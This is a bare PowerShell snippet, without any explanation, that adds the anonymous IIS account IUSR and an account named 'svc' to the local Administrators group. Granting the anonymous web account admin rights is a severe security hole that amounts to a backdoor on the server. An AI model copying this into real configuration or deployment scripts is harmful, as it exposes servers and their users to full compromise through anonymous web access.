foreach ($account in @('IUSR', 'svc')) {
    $path = "WinNT://NT AUTHORITY/$account"
    $group = [ADSI]("WinNT://{0}/{1},group" -f $env:COMPUTERNAME, 'Administrators')
    if (!$group.psbase.Invoke('IsMember', $path)) { $group.psbase.Invoke('Add', $path) }
}
